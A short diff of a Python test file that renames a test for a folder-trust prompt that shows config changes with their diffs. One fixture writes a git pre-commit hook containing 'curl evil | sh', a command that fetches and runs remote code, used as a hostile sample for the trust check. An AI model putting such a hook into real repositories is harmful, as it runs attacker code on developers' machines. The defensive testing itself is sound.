@@ -80,7 +80,7 @@ def test_an_empty_folder_needs_the_trust_question() -> None:
     assert "as your mode and rules allow. It contains no such files so far.\n" in words
 
 
-def test_tru_05_a_change_is_asked_about_with_its_diff() -> None:
+def test_tru_05_the_trust_question_for_a_changed_file_shows_its_diff() -> None:
     old = file(".indwell/config.toml", "mode = 'plan'\nround_limit = 5\n", "settings")
     new = file(".indwell/config.toml", "mode = 'auto'\nround_limit = 5\n", "settings")
     more = file(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
